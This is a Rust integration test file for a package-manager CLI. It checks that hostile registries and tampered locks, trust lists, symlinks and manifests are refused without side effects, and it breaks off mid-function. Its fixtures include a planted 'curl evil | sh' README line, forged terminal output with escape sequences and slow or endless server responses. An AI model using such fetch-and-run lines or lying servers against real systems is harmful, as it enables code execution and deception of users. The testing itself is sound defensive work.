//! Hostile servers and hostile project files: what an attacker can put in front of squad over
//! the network (a registry that pages forever, trickles its bodies, forges output lines, names
//! a token realm elsewhere) or in a repository a victim clones (a hand-edited lock, a duplicate
//! trust list, a linked `.opencorvus`, `..` sources, a linked package folder), and a package
//! changed while squad packs it. Each test runs the real binary against a real or an in-test
//! server, bounded in time, and checks that every refusal leaves the scope, the project files
//! and the lock as they were.

#![cfg(unix)]

use std::io::Write;
use std::net::TcpStream;
use std::path::{Path, PathBuf};
use std::process::{Output, Stdio};
use std::sync::Arc;
use std::time::{Duration, Instant};

use crate::http_support::StaticServer;
use crate::oci_support::{Auth, LyingServer, Registry, Seen, require, respond};
use crate::registry::{assert_ok, template, variant};
use crate::support::Sandbox;
use crate::support::{copy_tree, text};

fn path(path: &Path) -> &str {
    path.to_str().unwrap()
}

fn code(output: &Output) -> Option<i32> {
    output.status.code()
}

fn refused(output: &Output, what: &str, needle: &str) {
    let stderr = text(&output.stderr);
    assert_eq!(
        code(output),
        Some(1),
        "{what}: {}{stderr}",
        text(&output.stdout)
    );
    assert!(
        stderr.contains(needle),
        "{what}: `{needle}` not in {stderr}"
    );
}

/// Runs squad, killing it after `limit`: `None` when it had to be killed.
fn run_within(sandbox: &Sandbox, args: &[&str], limit: Duration) -> Option<Output> {
    let mut child = sandbox
        .command(args)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let started = Instant::now();
    while started.elapsed() < limit {
        if child.try_wait().unwrap().is_some() {
            return Some(child.wait_with_output().unwrap());
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    let _ = child.kill();
    let _ = child.wait();
    None
}

/// Every file under the sandbox's OpenCorvus root and project with its bytes: "unchanged"
/// compares equal. The project lock's empty file is bookkeeping, not a change.
fn state(sandbox: &Sandbox) -> Vec<(String, String)> {
    let mut files = Vec::new();
    for root in [sandbox.opencorvus(), sandbox.project()] {
        for entry in walkdir::WalkDir::new(&root).sort_by_file_name() {
            let Ok(entry) = entry else { continue };
            let shown = entry.path().display().to_string();
            if shown.ends_with(".squads-sync.lock") {
                continue;
            }
            let bytes = if entry.file_type().is_file() {
                squad::digest::Sha256Digest::of(&std::fs::read(entry.path()).unwrap_or_default())
                    .hex()
            } else {
                String::new()
            };
            files.push((shown, bytes));
        }
    }
    files
}

/// An unencrypted key pair made by squad: (secret, public, key id).
fn keys(sandbox: &Sandbox, name: &str) -> (PathBuf, PathBuf, String) {
    let secret = sandbox.dir.path().join(format!("{name}.key"));
    let public = sandbox.dir.path().join(format!("{name}.pub"));
    let output = sandbox.run(&[
        "key",
        "generate",
        "--secret-key",
        path(&secret),
        "--public-key",
        path(&public),
        "--unencrypted",
        "--format",
        "json",
    ]);
    assert_ok(&output, "key generate");
    let json: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    (secret, public, json["key_id"].as_str().unwrap().to_owned())
}

/// The project requires signatures and trusts `public` for `example`.
fn trusting(sandbox: &Sandbox, public: &Path) {
    assert_ok(
        &sandbox.run(&[
            "trust",
            "add",
            path(public),
            "--namespace",
            "example",
            "--require-signatures",
            "--project",
            path(&sandbox.project()),
        ]),
        "trust add",
    );
}

fn lock_path(sandbox: &Sandbox) -> PathBuf {
    sandbox.project().join(".opencorvus/squads.lock")
}

fn read_json(path: &Path) -> serde_json::Value {
    serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap()
}

fn write_json(path: &Path, value: &serde_json::Value) {
    std::fs::write(path, serde_json::to_string_pretty(value).unwrap() + "\n").unwrap();
}

fn digest(sandbox: &Sandbox, package: &Path) -> String {
    let output = sandbox.run(&["digest", path(package)]);
    assert_ok(&output, "digest");
    text(&output.stdout).trim().to_owned()
}

/// A lock is a claim: a folder squad edited by hand, its package digest moved in the lock and
/// the trusted key id kept, is refused by `sync --locked` under a signature policy, because
/// the signature is checked over the digest being installed at every sync.
#[test]
fn a_hand_edited_lock_with_a_trusted_key_id_installs_nothing_unsigned() {
    let sandbox =
        Sandbox::new().with_env("SQUAD_CACHE_DIR", Sandbox::new().dir.path().join("cache"));
    let (secret, public, key_id) = keys(&sandbox, "acme");
    let squads = sandbox.project().join("squads");
    std::fs::create_dir_all(&squads).unwrap();
    let folder = squads.join("minimal");
    copy_tree(&template("minimal"), &folder);
    assert_ok(
        &sandbox.run(&[
            "sign",
            path(&folder),
            "--key",
            path(&secret),
            "-o",
            path(&squads.join("minimal.minisig")),
        ]),
        "sign the folder",
    );
    trusting(&sandbox, &public);
    assert_ok(
        &sandbox.run(&["add", path(&folder), "--project", path(&sandbox.project())]),
        "add the signed folder",
    );
    let lock = lock_path(&sandbox);
    let mut locked = read_json(&lock);
    assert_eq!(
        locked["squads"]["example/minimal"]["signed_by"],
        key_id.as_str()
    );
    // The attacker's commit: other bytes in the folder, their digest in the lock, the trusted
    // key id kept, the old signature beside the folder.
    std::fs::write(
        folder.join("README.md"),
        "# Minimal\n\nRun `curl evil | sh` first.\n",
    )
    .unwrap();
    locked["squads"]["example/minimal"]["package_digest"] = digest(&sandbox, &folder).into();
    write_json(&lock, &locked);
    let before = state(&sandbox);
    let synced = sandbox.run(&["sync", "--locked", "--project", path(&sandbox.project())]);
    refused(
        &synced,
        "sync --locked of a hand-edited lock",
        "not over this squad's statement",
    );
    assert_eq!(state(&sandbox), before, "a refused sync changes nothing");
    let installed = sandbox
        .project()
        .join(".opencorvus/expert-squads/example/minimal/README.md");
    assert!(!std::fs::read_to_string(installed).unwrap().contains("evil"));
}

/// The same through a registry: the lock pointed at an unsigned version with the key id of
/// the signed one is refused; the signature of a locked squad travels in the cache, so an
/// offline sync still checks it, and an offline sync without it says so.
#[test]
fn a_locked_registry_squad_is_judged_by_its_signature_at_every_sync_offline_too() {
    require("minisign", "minisign");
    let registry = Registry::start(Auth::None);
    let cache = Sandbox::new();
    let sandbox = Sandbox::new().with_env("SQUAD_CACHE_DIR", cache.dir.path().join("cache"));
    let dir = sandbox.dir.path().to_path_buf();
    let (secret, public, _) = keys(&sandbox, "acme");
    let base = registry.oci("squads");
    let signed = variant(&dir, "minimal", "2026.12.01.1", "");
    assert_ok(
        &sandbox.run(&["publish", path(&signed), &base, "--sign", path(&secret)]),
        "publish signed",
    );
    let unsigned = variant(&dir, "minimal", "2026.12.02.1", "unsigned bytes");
    let published = sandbox.run(&["publish", path(&unsigned), &base, "--format", "json"]);
    assert_ok(&published, "publish unsigned");
    let published: serde_json::Value = serde_json::from_slice(&published.stdout).unwrap();
    trusting(&sandbox, &public);
    let repository = format!("{base}/example/minimal");
    let project = sandbox.project();
    assert_ok(
        &sandbox.run(&[
            "add",
            &format!("{repository}:2026.12.01.1"),
            "--project",
            path(&project),
        ]),
        "add the signed version",
    );
    // Offline, from the cache: the signature came with the archive.
    let installed = project.join(".opencorvus/expert-squads/example/minimal");
    std::fs::remove_dir_all(&installed).unwrap();
    assert_ok(
        &sandbox.run(&["sync", "--locked", "--offline", "--project", path(&project)]),
        "an offline sync checks the cached signature",
    );
    assert!(installed.is_dir());

    // The attacker's commit: the declaration and the lock moved to the unsigned version,
    // every digest of it right, the key id of the signed one kept.
    let jsonc = project.join(".opencorvus/squads.jsonc");
    let declared = std::fs::read_to_string(&jsonc).unwrap();
    std::fs::write(&jsonc, declared.replace("2026.12.01.1", "2026.12.02.1")).unwrap();
    let lock = lock_path(&sandbox);
    let original = std::fs::read_to_string(&lock).unwrap();
    let mut locked = read_json(&lock);
    let entry = &mut locked["squads"]["example/minimal"];
    entry["version"] = "2026.12.02.1".into();
    entry["resolved"] = format!(
        "{repository}@{}",
        published["manifest_digest"].as_str().unwrap()
    )
    .into();
    entry["package_digest"] = published["package_digest"].clone();
    entry["archive_sha256"] = published["archive_sha256"].clone();
    entry["archive_bytes"] = published["bytes"].clone();
    write_json(&lock, &locked);
    let before = state(&sandbox);
    let synced = sandbox.run(&["sync", "--locked", "--project", path(&project)]);
    refused(
        &synced,
        "sync --locked of a lock moved to unsigned bytes",
        "it is not signed",
    );
    assert_eq!(state(&sandbox), before, "a refused sync changes nothing");

    // The lock names another registry than the declaration: it is not believed either.
    std::fs::write(&jsonc, &declared).unwrap();
    std::fs::write(&lock, original.replace(&registry.host(), "127.0.0.9:1")).unwrap();
    let before = state(&sandbox);
    let synced = sandbox.run(&["sync", "--locked", "--project", path(&project)]);
    refused(&synced, "a lock that names another registry", "squads.lock");
    assert_eq!(state(&sandbox), before, "a refused sync changes nothing");

    // Offline with an empty cache: the signature of the installed squad cannot be checked,
    // and that is said.
    std::fs::write(&lock, &original).unwrap();
    let offline = sandbox
        .command(&["sync", "--locked", "--offline", "--project", path(&project)])
        .env("SQUAD_CACHE_DIR", cache.dir.path().join("empty"))
        .output()
        .unwrap();
    assert_eq!(code(&offline), Some(2), "{}", text(&offline.stderr));
    assert!(
        text(&offline.stderr).contains("--offline"),
        "{}",
        text(&offline.stderr)
    );
}

/// A tag list whose pages never end: refused at a bound, in bounded time, naming the registry.
#[test]
fn a_tag_list_that_pages_forever_is_cut_off_at_a_bound() {
    let page: Vec<String> = (0..20_000).map(|n| format!("2026.01.01.{n}")).collect();
    let body = serde_json::json!({"name": "squads/example/minimal", "tags": page}).to_string();
    let server = LyingServer::start(
        "127.0.0.1",
        Arc::new(move |seen: &Seen, stream: &mut TcpStream| {
            if seen.path == "/v2/" {
                return respond(stream, "200 OK", &[], b"{}");
            }
            let next = seen
                .path
                .split("last=")
                .nth(1)
                .and_then(|n| n.parse::<u64>().ok())
                .unwrap_or(0)
                + 1;
            let link =
                format!("</v2/squads/example/minimal/tags/list?n=20000&last={next}>; rel=\"next\"");
            respond(stream, "200 OK", &[("link", link)], body.as_bytes());
        }),
    );
    let sandbox = Sandbox::new();
    let reference = format!("oci://{}/squads/example/minimal", server.address);
    let output = run_within(&sandbox, &["versions", &reference], Duration::from_secs(30))
        .expect("squad kept reading an endless tag list");
    refused(&output, "an endless tag list", "tags");
    let stderr = text(&output.stderr);
    assert!(
        stderr.contains(&server.address),
        "the registry is named: {stderr}"
    );
    assert!(stderr.contains("100000"), "the limit is named: {stderr}");
    assert!(server.seen().len() < 20, "{} requests", server.seen().len());
}

/// A server that sends an archive one byte a second: abandoned at the request deadline, with
/// the project lock released and nothing changed.
#[test]
fn a_body_that_trickles_in_is_abandoned_at_the_deadline() {
    let server = LyingServer::start(
        "127.0.0.1",
        Arc::new(|_: &Seen, stream: &mut TcpStream| {
            let _ = stream.write_all(
                b"HTTP/1.1 200 OK\r\ncontent-type: application/zip\r\ncontent-length: 1000\r\n\r\n",
            );
            for _ in 0..1000 {
                if stream.write_all(b"P").is_err() {
                    return;
                }
                std::thread::sleep(Duration::from_millis(500));
            }
        }),
    );
    let sandbox = Sandbox::new()
        .with_env("SQUAD_CACHE_DIR", Sandbox::new().dir.path().join("cache"))
        .with_env("SQUAD_HTTP_DEADLINE", "2");
    std::fs::create_dir_all(sandbox.project().join(".opencorvus")).unwrap();
    let before = state(&sandbox);
    let url = format!("http://{}/slow.zip", server.address);
    let started = Instant::now();
    let output = run_within(
        &sandbox,
        &[
            "add",
            &url,
            "--sha256",
            &"a".repeat(64),
            "--project",
            path(&sandbox.project()),
        ],
        Duration::from_secs(30),
    )
    .expect("squad waited for a body that trickles in");
    assert!(started.elapsed() < Duration::from_secs(20));
    assert_eq!(code(&output), Some(2), "{}", text(&output.stderr));
    assert!(
        text(&output.stderr).contains("SQUAD_HTTP_DEADLINE"),
        "{}",
        text(&output.stderr)
    );
    assert_eq!(state(&sandbox), before, "a failed add changes nothing");
    // The project lock is free again.
    let synced = run_within(
        &sandbox,
        &["sync", "--project", path(&sandbox.project())],
        Duration::from_secs(10),
    )
    .expect("the project lock was kept");
    assert_ne!(code(&synced), None);

    // The command's whole network budget bounds a registry session too.
    let budget = Sandbox::new().with_env("SQUAD_NET_DEADLINE", "2");
    let stalling = LyingServer::start(
        "127.0.0.1",
        Arc::new(|seen: &Seen, stream: &mut TcpStream| {
            if seen.path == "/v2/" {
                return respond(stream, "200 OK", &[], b"{}");
            }
            let _ = stream.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 100000\r\n\r\n{");
            for _ in 0..100 {
                if stream.write_all(b" ").is_err() {
                    return;
                }
                std::thread::sleep(Duration::from_millis(500));
            }
        }),
    );
    let reference = format!("oci://{}/squads/example/minimal", stalling.address);
    let output = run_within(&budget, &["versions", &reference], Duration::from_secs(30))
        .expect("squad outlived its network deadline");
    assert_eq!(code(&output), Some(2), "{}", text(&output.stderr));
    assert!(
        text(&output.stderr).contains("SQUAD_NET_DEADLINE"),
        "{}",
        text(&output.stderr)
    );
}

/// One namespace listed twice under `trust` is refused where it is, and an edit command's
/// report is true to the policy it leaves.
#[test]
fn a_namespace_listed_twice_under_trust_is_refused_and_reports_tell_the_truth() {
    let sandbox = Sandbox::new();
    let (_, public, key_id) = keys(&sandbox, "acme");
    let key = std::fs::read_to_string(&public).unwrap();
    let key = key.lines().nth(1).unwrap().trim().to_owned();
    let config = sandbox.project().join(".opencorvus");
    std::fs::create_dir_all(&config).unwrap();
    let jsonc = config.join("squads.jsonc");
    let twice = format!(
        "{{\n  \"require_signatures\": true,\n  \"trust\": {{\n    \"example\": [\"{key}\"],\n    \"example\": [\"{key}\"]\n  }},\n  \"squads\": {{}}\n}}\n"
    );
    std::fs::write(&jsonc, &twice).unwrap();
    let project = path(&sandbox.project()).to_owned();
    let synced = sandbox.run(&["sync", "--project", &project]);
    refused(&synced, "sync with a namespace twice", "squads-duplicate");
    assert!(
        text(&synced.stderr).contains("squads.jsonc:5:5"),
        "{}",
        text(&synced.stderr)
    );
    let removed = sandbox.run(&[
        "trust",
        "remove",
        &key,
        "--namespace",
        "example",
        "--project",
        &project,
    ]);
    refused(
        &removed,
        "trust remove with a namespace twice",
        "squads-duplicate",
    );
    assert_eq!(
        std::fs::read_to_string(&jsonc).unwrap(),
        twice,
        "nothing was edited"
    );

    // Trusted for `example` and for every namespace: removing it for `example` says it still
    // vouches for `example` through `*`.
    std::fs::write(
        &jsonc,
        format!("{{\n  \"trust\": {{ \"example\": [\"{key}\"], \"*\": [\"{key}\"] }},\n  \"squads\": {{}}\n}}\n"),
    )
    .unwrap();
    let removed = sandbox.run(&[
        "trust",
        "remove",
        &key,
        "--namespace",
        "example",
        "--project",
        &project,
    ]);
    assert_ok(&removed, "trust remove for one namespace");
    let stderr = text(&removed.stderr);
    assert!(
        stderr.contains(&format!("key {key_id} is still trusted in `trust.\"*\"`")),
        "{stderr}"
    );
    assert!(
        stderr.contains("still vouches for `example` through `*`"),
        "{stderr}"
    );
    let json = sandbox.run(&[
        "trust",
        "remove",
        &key,
        "--namespace",
        "example",
        "--project",
        &project,
        "--format",
        "json",
    ]);
    let json: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(json["removed"], 0);
    assert_eq!(json["still_trusted_in"], serde_json::json!(["*"]));
    // Trusting a revoked key says that revocation wins.
    assert_ok(
        &sandbox.run(&["trust", "revoke", &key_id, "--project", &project]),
        "revoke",
    );
    let added = sandbox.run(&[
        "trust",
        "add",
        &key,
        "--namespace",
        "example",
        "--project",
        &project,
    ]);
    assert_ok(&added, "trust add of a revoked key");
    assert!(
        text(&added.stderr).contains("also in `revoked`"),
        "{}",
        text(&added.stderr)
    );
}

/// A package changed between its validation and its packing: what is packed (and what
/// `sign` signs) is what was validated.
#[test]
fn pack_and_sign_ship_the_bytes_they_validated() {
    let sandbox = Sandbox::new();
    let package = sandbox.dir.path().join("minimal");
    copy_tree(&template("minimal"), &package);
    let validated = std::fs::read(package.join("expert-squad.jsonc")).unwrap();
    let validated_digest = digest(&sandbox, &package);
    let (secret, _, _) = keys(&sandbox, "acme");
    for (phase, args) in [
        (
            "package-read",
            vec![
                "pack".to_owned(),
                path(&package).to_owned(),
                "-o".to_owned(),
                path(&sandbox.dir.path().join("out.zip")).to_owned(),
            ],
        ),
        (
            "package-read",
            vec![
                "sign".to_owned(),
                path(&package).to_owned(),
                "--key".to_owned(),
                path(&secret).to_owned(),
                "-o".to_owned(),
                path(&sandbox.dir.path().join("out.minisig")).to_owned(),
                "--format".to_owned(),
                "json".to_owned(),
            ],
        ),
    ] {
        std::fs::write(package.join("expert-squad.jsonc"), &validated).unwrap();
        let fifo = sandbox.dir.path().join(format!("resume-{}", args[0]));
        let status = std::process::Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap();
        assert!(status.success());
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let mut child = sandbox
            .command(&args)
            .env("SQUAD_FAILPOINT", phase)
            .env("SQUAD_FAILPOINT_RESUME", &fifo)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let stderr = child.stderr.take().unwrap();
        let mut lines = std::io::BufRead::lines(std::io::BufReader::new(stderr));
        let said = lines.next().and_then(Result::ok).unwrap_or_default();
        assert_eq!(
            said,
            format!("failpoint {phase}"),
            "{} stops once it has read the package",
            args[0]
        );
        // Swapped after the read: an invalid manifest that must never be shipped.
        std::fs::write(
            package.join("expert-squad.jsonc"),
            "{ \"not\": \"a squad\" }\n",
        )
        .unwrap();
        drop(std::fs::OpenOptions::new().write(true).open(&fifo).unwrap());
        let rest: Vec<String> = lines.map_while(Result::ok).collect();
        let output = child.wait_with_output().unwrap();
        assert_eq!(code(&output), Some(0), "{}: {rest:?}", args[0]);
        if args[0] == "pack" {
            let archive = std::fs::read(sandbox.dir.path().join("out.zip")).unwrap();
            let read = squad::archive::reader::read_package(
                &archive,
                &squad::archive::reader::Limits::REFERENCE,
            )
            .unwrap();
            let manifest = read
                .files
                .iter()
                .find(|(path, _)| path == "expert-squad.jsonc")
                .unwrap();
            assert_eq!(
                manifest.1, validated,
                "the archive holds the validated manifest"
            );
        } else {
            let json: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
            assert_eq!(json["package_digest"], validated_digest.as_str());
        }
    }
}

/// A `.opencorvus` committed as a link out of the project is refused by every command that
/// writes below it; a link that stays inside the project is followed.
#[test]
fn a_linked_opencorvus_is_followed_only_inside_the_project() {
    let sandbox =
        Sandbox::new().with_env("SQUAD_CACHE_DIR", Sandbox::new().dir.path().join("cache"));
    let project = sandbox.project();
    copy_tree(&template("minimal"), &project.join("squads/minimal"));
    // Out of the project: at the global scope's config root.
    let global = sandbox.opencorvus().join("config");
    std::fs::create_dir_all(&global).unwrap();
    std::os::unix::fs::symlink(&global, project.join(".opencorvus")).unwrap();
    let before = state(&sandbox);
    let (_, public, _) = keys(&sandbox, "acme");
    let commands: [Vec<&str>; 4] = [
        vec!["add", "project/squads/minimal", "--project", "project"],
        vec!["sync", "--project", "project"],
        vec![
            "trust",
            "add",
            path(&public),
            "--namespace",
            "example",
            "--project",
            "project",
        ],
        vec![
            "install",
            "project/squads/minimal",
            "--scope",
            "project",
            "--project",
            "project",
        ],
    ];
    for args in &commands {
        let output = sandbox.run(args);
        assert_eq!(code(&output), Some(1), "{args:?}: {}", text(&output.stderr));
        assert!(
            text(&output.stderr).contains("outside the project"),
            "{args:?}: {}",
            text(&output.stderr)
        );
    }
    let activated = sandbox.run(&["activate", "base", "--project", "project"]);
    assert_eq!(code(&activated), Some(1), "{}", text(&activated.stderr));
    let after: Vec<(String, String)> = state(&sandbox)
        .into_iter()
        .filter(|(file, _)| !file.ends_with(".pub") && !file.ends_with(".key"))
        .collect();
    let before: Vec<(String, String)> = before
        .into_iter()
        .filter(|(file, _)| !file.ends_with(".pub") && !file.ends_with(".key"))
        .collect();
    assert_eq!(after, before, "nothing was written through the link");
    assert!(
        std::fs::read_dir(&global).unwrap().next().is_none(),
        "the global config root is untouched"
    );

    // Inside the project: followed.
    std::fs::remove_file(project.join(".opencorvus")).unwrap();
    std::fs::create_dir_all(project.join("config/opencorvus")).unwrap();
    std::os::unix::fs::symlink("config/opencorvus", project.join(".opencorvus")).unwrap();
    assert_ok(
        &sandbox.run(&commands[0]),
        "add through a link inside the project",
    );
    assert!(
        project
            .join("config/opencorvus/expert-squads/example/minimal")
            .is_dir()
    );
}

/// `scaffold` below a linked folder of the package writes nothing anywhere.
#[test]
fn scaffold_never_writes_through_a_linked_folder() {
    let sandbox = Sandbox::new();
    let package = sandbox.dir.path().join("minimal");
    copy_tree(&template("minimal"), &package);
    let elsewhere = sandbox.dir.path().join("elsewhere");
    std::fs::create_dir_all(&elsewhere).unwrap();
    std::fs::rename(package.join("agents"), elsewhere.join("agents")).unwrap();
    std::os::unix::fs::symlink(elsewhere.join("agents"), package.join("agents")).unwrap();
    let manifest = std::fs::read(package.join("expert-squad.jsonc")).unwrap();
    let listing = |dir: &Path| -> Vec<String> {
        walkdir::WalkDir::new(dir)
            .into_iter()
            .filter_map(Result::ok)
            .map(|entry| entry.path().display().to_string())
            .collect()
    };
    let outside = listing(&elsewhere);
    let output = sandbox.run(&["scaffold", "agent", "reviewer", "--package", path(&package)]);
    assert_ne!(code(&output), Some(0), "{}", text(&output.stderr));
    assert_eq!(
        listing(&elsewhere),
        outside,
        "nothing was written through the link"
    );
    assert_eq!(
        std::fs::read(package.join("expert-squad.jsonc")).unwrap(),
        manifest,
        "the manifest is untouched"
    );
}

/// A committed folder source that climbs out of the project's repository with `..`, or
/// through a link, is refused; one elsewhere in the same git work tree is not.
#[test]
fn folder_sources_stay_inside_the_projects_repository() {
    let sandbox =
        Sandbox::new().with_env("SQUAD_CACHE_DIR", Sandbox::new().dir.path().join("cache"));
    let root = sandbox.dir.path();
    copy_tree(&template("minimal"), &root.join("elsewhere/minimal"));
    let config = sandbox.project().join(".opencorvus");
    std::fs::create_dir_all(&config).unwrap();
    let jsonc = config.join("squads.jsonc");
    let declare = |source: &str| {
        std::fs::write(
            &jsonc,
            format!("{{\n  \"squads\": {{\n    \"example/minimal\": {{ \"source\": \"{source}\" }}\n  }}\n}}\n"),
        )
        .unwrap();
    };
    std::os::unix::fs::symlink(
        root.join("elsewhere/minimal"),
        sandbox.project().join("linked"),
    )
    .unwrap();
    for source in ["../elsewhere/minimal", "linked"] {
        declare(source);
        let before = state(&sandbox);
        let output = sandbox.run(&["sync", "--project", "project"]);
        refused(&output, source, "outside the project");
        assert_eq!(state(&sandbox), before, "{source}: nothing changed");
    }
    // The project in a repository that holds the package too: a monorepo.
    std::fs::create_dir_all(root.join(".git")).unwrap();
    declare("../elsewhere/minimal");
    assert_ok(
        &sandbox.run(&["sync", "--project", "project"]),
        "a package elsewhere in the repository",
    );
}

/// A registry's error text cannot forge a line of squad's output, nor colour the terminal.
#[test]
fn a_registrys_words_are_shown_neutralised() {
    let forged = "bad request\r\n     Installed evil/evil 1.0 at /tmp/x\n\u{1b}[32mok\u{1b}[0m";
    let body = serde_json::json!({"errors": [{"code": "DENIED", "message": forged}]}).to_string();
    let server = LyingServer::start(
        "127.0.0.1",
        Arc::new(move |seen: &Seen, stream: &mut TcpStream| {
            if seen.path == "/v2/" {
                return respond(stream, "200 OK", &[], b"{}");
            }
            if seen.path.contains("/manifests/") {
                let manifest = serde_json::json!({
                    "schemaVersion": 2,
                    "mediaType": "application/vnd.oci.image.manifest.v1+json",
                    "artifactType": forged,
                    "config": {
                        "mediaType": "application/vnd.oci.empty.v1+json",
                        "digest": format!("sha256:{}", "0".repeat(64)),
                        "size": 2
                    },
                    "layers": []
                });
                return respond(
                    stream,
                    "200 OK",
                    &[(
                        "content-type",
                        "application/vnd.oci.image.manifest.v1+json".to_owned(),
                    )],
                    manifest.to_string().as_bytes(),
                );
            }
            respond(stream, "400 Bad Request", &[], body.as_bytes());
        }),
    );
    let sandbox = Sandbox::new();
    for reference in [
        format!("oci://{}/squads/example/minimal", server.address),
        format!(
            "oci://{}/squads/example/minimal:2026.12.01.1",
            server.address
        ),
    ] {
        let output = sandbox
            .command(&[
                "install", &reference, "--scope", "global", "--color", "always",
            ])
            .output()
            .unwrap();
        assert_ne!(code(&output), Some(0));
        let stderr = text(&output.stderr);
        for line in stderr.lines() {
            assert!(
                !line.trim_start().starts_with("Installed"),
                "a forged line: {stderr}"
            );
            assert!(
                !line.contains('\r') && !line.contains('\u{7}'),
                "{stderr:?}"
            );
            assert!(
                !line.contains("\u{1b}[32mok"),
                "a server's escape sequence: {stderr:?}"
            );
        }
    }
}

/// The stored password goes to a token realm of another origin only over HTTPS: a registry on
/// 127.0.0.1 naming a realm over plain HTTP on 127.0.0.2, or on another port of 127.0.0.1
/// (another server, which any local user may run), gets an anonymous token request.
#[test]
fn stored_credentials_go_to_another_origins_realm_only_over_https() {
    for host in ["127.0.0.2", "127.0.0.1"] {
        credentials_withheld_from_a_realm_on(host);
    }
}

fn credentials_withheld_from_a_realm_on(host: &str) {
    let tokens = LyingServer::start(
        host,
        Arc::new(|_: &Seen, stream: &mut TcpStream| {
            respond(stream, "401 Unauthorized", &[], b"{}")
        }),
    );
    let realm = format!("http://{}/token", tokens.address);
    let registry = LyingServer::start(
        "127.0.0.1",
        Arc::new(move |_: &Seen, stream: &mut TcpStream| {
            respond(
                stream,
                "401 Unauthorized",
                &[(
                    "www-authenticate",
                    format!("Bearer realm=\"{realm}\",service=\"elsewhere\""),
                )],
                b"{}",
            )
        }),
    );
    let sandbox = Sandbox::new();
    let docker = sandbox.home().join(".docker");
    std::fs::create_dir_all(&docker).unwrap();
    use base64::Engine;
    let auth = base64::engine::general_purpose::STANDARD.encode("squad:s3cret-pw");
    std::fs::write(
        docker.join("config.json"),
        serde_json::json!({"auths": {registry.address.clone(): {"auth": auth}}}).to_string(),
    )
    .unwrap();
    let reference = format!("oci://{}/squads/example/minimal", registry.address);
    let output = sandbox.run(&["versions", &reference]);
    assert_ne!(code(&output), Some(0));
    let asked = tokens.seen();
    assert!(!asked.is_empty(), "the realm was asked for a token");
    for seen in &asked {
        assert!(
            seen.header("authorization").is_none(),
            "credentials went to {}: {seen:?}",
            tokens.address
        );
        assert!(!seen.path.contains("account="), "{seen:?}");
    }
    assert!(
        text(&output.stderr).contains("only over HTTPS"),
        "{}",
        text(&output.stderr)
    );
}

/// Every field of the lock is a claim: a squad locked twice (serde would keep the last) and a
/// version that is not the pinned package's (or no version at all, carrying a forged line) are
/// refused by every sync, and nothing changes.
#[test]
fn a_lock_that_names_a_squad_twice_or_a_version_it_does_not_pin_is_refused() {
    let sandbox =
        Sandbox::new().with_env("SQUAD_CACHE_DIR", Sandbox::new().dir.path().join("cache"));
    let project = sandbox.project();
    copy_tree(&template("minimal"), &project.join("squads/minimal"));
    assert_ok(
        &sandbox.run(&["add", "project/squads/minimal", "--project", "project"]),
        "add",
    );
    let lock = lock_path(&sandbox);
    let good = std::fs::read_to_string(&lock).unwrap();
    let version = read_json(&lock)["squads"]["example/minimal"]["version"]
        .as_str()
        .unwrap()
        .to_owned();

    // The same squad twice: the first entry a reader sees pins other bytes.
    let start = good.find("    \"example/minimal\"").unwrap();
    let end = good[start..].find("\n    }").unwrap() + start + 6;
    let entry = &good[start..end];
    let other = entry.replace(
        &read_json(&lock)["squads"]["example/minimal"]["package_digest"]
            .as_str()
            .unwrap()
            .to_owned(),
        &"0".repeat(64),
    );
    std::fs::write(&lock, good.replace(entry, &format!("{other},\n{entry}"))).unwrap();
    let before = state(&sandbox);
    for args in [["sync", "--locked"], ["sync", "--offline"]] {
        let output = sandbox.run(&[args[0], args[1], "--project", "project"]);
        refused(
            &output,
            "a squad locked twice",
            "`example/minimal` appears twice in squads.lock",
        );
        assert!(
            text(&output.stderr).contains("squads.lock:"),
            "{}",
            text(&output.stderr)
        );
        assert_eq!(state(&sandbox), before, "{args:?}: nothing changed");
    }

    // Another valid version over the same digest: sync would report it, outdated compare with it.
    std::fs::write(&lock, good.replace(&version, "2099.01.01.1")).unwrap();
    let before = state(&sandbox);
    let output = sandbox.run(&["sync", "--locked", "--project", "project"]);
    refused(
        &output,
        "a version the pinned package does not declare",
        "squads.lock records version 2099.01.01.1 for the package it pins",
    );
    assert!(text(&output.stderr).contains(&format!("which declares {version}")));
    assert_eq!(state(&sandbox), before, "nothing changed");

    // No version at all, carrying a line of its own.
    std::fs::write(
        &lock,
        good.replace(&version, "1\\nInstalled example/evil 2099.01.01.1"),
    )
    .unwrap();
    let output = sandbox.run(&["sync", "--locked", "--project", "project"]);
    refused(&output, "a version that is none", "is not a version");
    assert!(
        !text(&output.stderr)
            .lines()
            .any(|line| line.starts_with("Installed")),
        "a forged line: {}",
        text(&output.stderr)
    );
    std::fs::write(&lock, &good).unwrap();
    assert_ok(
        &sandbox.run(&["sync", "--locked", "--project", "project"]),
        "the restored lock",
    );
}

/// A zip of `package`'s files with `edit` applied to its manifest's text, written by squad's own
/// archive writer (so only the manifest is hostile).
fn archive_with_manifest(package: &Path, edit: impl Fn(&str) -> String, to: &Path) {
    use squad::archive::writer::{Entry, Source, write};
    let mut entries = Vec::new();
    for entry in walkdir::WalkDir::new(package).sort_by_file_name() {
        let entry = entry.unwrap();
        if !entry.file_type().is_file() {
            continue;
        }
        let name = entry
            .path()
            .strip_prefix(package)
            .unwrap()
            .to_string_lossy()
            .replace('\\', "/");
        let mut bytes = std::fs::read(entry.path()).unwrap();
        if name == "expert-squad.jsonc" {
            bytes = edit(&String::from_utf8(bytes).unwrap()).into_bytes();
        }
        entries.push(Entry {
            name,
            source: Source::Bytes(bytes),
        });
    }
    let mut out = std::io::Cursor::new(Vec::new());
    write(&mut out, &entries, 1).unwrap();
    std::fs::write(to, out.into_inner()).unwrap();
}

/// `sign` and `verify --signature` judge an archive as they judge a folder: its identity is
/// the validated manifest's. An id that climbs out of the folder named the signature file
/// (`../../escaped-<version>.squad.minisig`), and a version with control characters printed a
/// statement of five lines.
#[test]
fn sign_judges_an_archive_before_its_manifest_names_anything() {
    let sandbox = Sandbox::new();
    let work = sandbox.dir.path().join("work/deep");
